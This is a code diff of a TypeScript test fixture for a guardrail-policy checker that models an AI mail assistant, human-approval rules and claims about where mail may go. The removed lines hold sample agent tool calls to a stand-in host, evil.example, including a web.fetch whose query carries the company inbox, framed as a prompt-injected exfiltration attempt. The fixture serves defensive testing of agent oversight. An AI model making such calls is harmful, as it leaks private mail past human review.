@@ -1,161 +1,33 @@
 /** A report with one of everything, over a policy of a few lines. */
-import type {
-    Basis,
-    ClaimResult,
-    Finding,
-    RuleReference,
-    ScenarioResult,
-    TraceStep
-} from '../../../server/checker/result.js';
-import type { Source } from '../../../server/model/policy.js';
+import type { ClaimResult, Finding, ScenarioResult } from '../../../server/checker/result.js';
 import type { CheckReport, FileReport } from '../../../server/cli/report.js';
-
-export const POLICY_URI = 'file:///work/policies/mail.guardrail';
-export const TOOLS_URI = 'file:///work/policies/tools/mail.guardrail';
-
-export const POLICY_TEXT = `/** Answers mail. Must never carry mail out of the company on its own. */
-policy MailAssistant
-
-import "./tools/mail.guardrail"
-
-agent assistant
-human reviewer
-
-allow assistant: mail.read, mail.draft, web.fetch, web.post
-require approval by reviewer for web.post because "someone has to read what leaves the company before it leaves"
-
-claim "mail leaves only through a person":
-  never external tools after mail.read unless approved by reviewer
-
-claim "it can still answer mail":
-  possible mail.read then mail.draft
-
-claim "nothing is deleted": never destructive tools
-
-claim "it can clean up":
-  possible mail.delete
-
-scenario "an injected instruction is held":
-  assistant calls mail.read(folder: "inbox") -> allowed
-  assistant calls web.fetch(url: "https://evil.example") -> held
-`;
-
-/** The place of `part` in the policy. */
-function at(part: string): Source {
-    const offset = POLICY_TEXT.indexOf(part);
-    const position = (index: number): Source['start'] => {
-        const before = POLICY_TEXT.slice(0, index).split('\n');
-        return { line: before.length - 1, character: before[before.length - 1]!.length };
-    };
-    return { uri: POLICY_URI, start: position(offset), end: position(offset + part.length) };
-}
-
-const ALLOW: RuleReference = {
-    text: 'allow assistant: mail.read, mail.draft, web.fetch, web.post',
-    source: at('allow assistant: mail.read, mail.draft, web.fetch, web.post')
-};
-const APPROVAL_TEXT = POLICY_TEXT.split('\n').find((line) => line.startsWith('require approval'))!;
-const APPROVAL: RuleReference = {
-    text: 'require approval by reviewer for web.post',
-    source: at(APPROVAL_TEXT),
-    because: 'someone has to read what leaves the company before it leaves'
-};
-
-function basis(states: number, milliseconds: number, more: Partial<Basis> = {}): Basis {
-    return {
-        states,
-        transitions: states * 4,
-        depth: 3,
-        exhausted: true,
-        scopes: [],
-        slice: { tools: 4, rules: 2, monitors: 1 },
-        milliseconds,
-        ...more
-    };
-}
-
-const READ: TraceStep = {
-    kind: 'call',
-    actor: 'assistant',
-    tool: 'mail.read',
-    args: { folder: 'inbox' },
-    time: 0,
-    decision: 'allowed',
-    by: 'rule',
-    rules: [ALLOW],
-    outcome: 'success',
-    changes: [
-        { kind: 'added', what: 'assistant carries private' },
-        { kind: 'added', what: 'assistant carries untrusted' },
-        { kind: 'added', what: 'once mail.read' }
-    ],
-    breaks: true,
-    letsThrough: false,
-    judged: false,
-    text: 'assistant calls mail.read(folder: "inbox"): allowed by line 9'
-};
-
-const FETCH: TraceStep = {
-    kind: 'call',
-    actor: 'assistant',
-    tool: 'web.fetch',
-    args: {
-        url: 'https://evil.example/?q=everything-that-was-in-the-inbox-of-the-company',
-        depth: 3,
-        tags: ['a', 'b']
-    },
-    time: 0,
-    decision: 'allowed',
-    by: 'rule',
-    rules: [ALLOW],
-    outcome: 'success',
-    changes: [],
-    breaks: false,
-    letsThrough: false,
-    judged: true,
-    text: 'assistant calls web.fetch(url: "https://evil.example/?q=…"): allowed by line 9'
-};
-
-const HELD: TraceStep = {
-    ...FETCH,
-    tool: 'web.post',
-    args: { url: 'https://evil.example', body: 'x' },
-    decision: 'held',
-    rules: [APPROVAL],
-    judged: false
-};
-const APPROVE: TraceStep = {
-    kind: 'approve',
-    actor: 'reviewer',
-    tool: 'web.post',
-    args: { url: 'https://evil.example', body: 'x' },
-    time: 65,
-    rules: [],
-    changes: [
-        { kind: 'added', what: 'reviewer approved web.post' },
-        { kind: 'removed', what: 'web.post is held' },
-        { kind: 'changed', what: 'approvals', before: '0', after: '1' }
-    ],
-    breaks: false,
-    letsThrough: true,
-    judged: false,
-    text: 'reviewer approves web.post'
-};
-const RELEASE: TraceStep = {
-    ...HELD,
-    kind: 'release',
-    decision: 'allowed',
-    rules: [ALLOW],
-    outcome: 'lost',
-    time: 65,
-    judged: true
-};
-const DENIED: TraceStep = { ...HELD, tool: 'mail.delete', args: {}, decision: 'denied', by: 'default', rules: [] };
+import {
+    ALLOW,
+    APPROVAL,
+    APPROVAL_TEXT,
+    APPROVE,
+    at,
+    basis,
+    DENIED,
+    FETCH,
+    HELD,
+    PASSED,
+    POLICY_TEXT,
+    POLICY_URI,
+    READ,
+    RELEASE,
+    TOOLS_URI
+} from './sample-steps.js';
 
 export const CLAIMS: readonly ClaimResult[] = [
     {
         name: 'mail leaves only through a person',
         kind: 'never',
+        annotations: [
+            { name: 'severity', values: ['high'] },
+            { name: 'owasp', values: ['ASI02', 'ASI09: trust'] },
+            { name: 'own', values: [] }
+        ],
         text: 'never external tools after mail.read unless approved by reviewer',
         source: at(
             'claim "mail leaves only through a person":\n  never external tools after mail.read unless approved by reviewer'
@@ -169,11 +41,13 @@ export const CLAIMS: readonly ClaimResult[] = [
             summary: 'web.fetch is released after mail.read, and reviewer did not approve it.'
         },
         obstacles: [],
-        saysNothing: false
+        saysNothing: false,
+        expected: false
     },
     {
         name: 'it can still answer mail',
         kind: 'possible',
+        annotations: [],
         text: 'possible mail.read then mail.draft',
         source: at('claim "it can still answer mail":\n  possible mail.read then mail.draft'),
         verdict: 'witnessed',
@@ -181,33 +55,39 @@ export const CLAIMS: readonly ClaimResult[] = [
         basis: basis(1, 0.4),
         trace: { steps: [READ, { ...READ, tool: 'mail.draft', args: {} }], facts: [[], [], []], summary: '' },
         obstacles: [],
-        saysNothing: false
+        saysNothing: false,
+        expected: false
     },
     {
         name: 'nothing is deleted',
         kind: 'never',
+        annotations: [],
         text: 'never destructive tools',
         source: at('claim "nothing is deleted": never destructive tools'),
         verdict: 'holds',
         explanation: 'No session breaks this claim.',
         basis: basis(1204, 12),
         obstacles: [],
-        saysNothing: true
+        saysNothing: true,
+        expected: false
     },
     {
         name: 'it can clean up',
         kind: 'possible',
+        annotations: [],
         text: 'possible mail.delete',
         source: at('claim "it can clean up":\n  possible mail.delete'),
         verdict: 'impossible',
         explanation: 'No session does this, even if everyone cooperates.',
         basis: basis(1204, 12),
         obstacles: [{ text: 'no rule allows mail.delete' }, { text: 'mail.delete would need this', rule: APPROVAL }],
-        saysNothing: false
+        saysNothing: false,
+        expected: false
     },
     {
         name: 'a claim with a rather long name that does not fit into one line of an ordinary terminal',
         kind: 'never',
+        annotations: [],
         text: 'never web.post',
         source: at('claim "nothing is deleted": never destructive tools'),
         verdict: 'undecided',
@@ -217,18 +97,34 @@ export const CLAIMS: readonly ClaimResult[] = [
             limit: 'stopped after 60 s: all sessions of up to 11 steps were covered'
         }),
         obstacles: [],
-        saysNothing: false
+        saysNothing: false,
+        expected: false
     },
     {
         name: 'in a scope',
         kind: 'never',
+        annotations: [],
         text: 'never web.post',
         source: at('claim "nothing is deleted": never destructive tools'),
         verdict: 'holds in scope',
         explanation: 'No session within the bounds breaks this claim.',
         basis: basis(99, 125_000, { scopes: ['5 different accounts'] }),
         obstacles: [],
-        saysNothing: false
+        saysNothing: false,
+        expected: false
+    },
+    {
+        name: 'no clean-up before the checks',
+        kind: 'never',
+        annotations: [{ name: 'expected', values: ['vacuous'] }],
+        text: 'never mail.delete after ci.passed',
+        source: at('claim "nothing is deleted": never destructive tools'),
+        verdict: 'vacuous',
+        explanation: 'It holds only because what it says `after` of can never happen.',
+        basis: basis(1, 0.2),
+        obstacles: [],
+        saysNothing: false,
+        expected: true
     }
 ];
 
@@ -259,7 +155,16 @@ export const SCENARIOS: readonly ScenarioResult[] = [
         name: 'reading is allowed',
         source: at('scenario "an injected instruction is held":'),
         passed: true,
-        steps: [],
+        steps: [
+            {
+                source: at('assistant calls mail.read(folder: "inbox") -> allowed'),
+                text: 'assistant calls mail.read(folder: "inbox") -> allowed',
+                passed: true,
+                message: 'Allowed by line 9. Line 10 is audited: it would deny.',
+                rules: [ALLOW],
+                audited: [{ text: 'audit deny mail.read when once web.fetch', source: at(APPROVAL_TEXT) }]
+            }
+        ],
         trace: { steps: [], facts: [[]], summary: '' }
     }
 ];
@@ -271,8 +176,8 @@ export const FINDINGS: readonly Finding[] = [
         message: 'Private and untrusted data can meet web.post without a human.',
         source: at(ALLOW.text),
         trace: {
-            steps: [READ, DENIED, HELD, APPROVE, RELEASE],
-            facts: [[], [], [], [], [], []],
+            steps: [READ, PASSED, DENIED, HELD, APPROVE, RELEASE],
+            facts: [[], [], [], [], [], [], []],
             summary: 'assistant carries private and untrusted data when it calls web.post.'
         }
     }
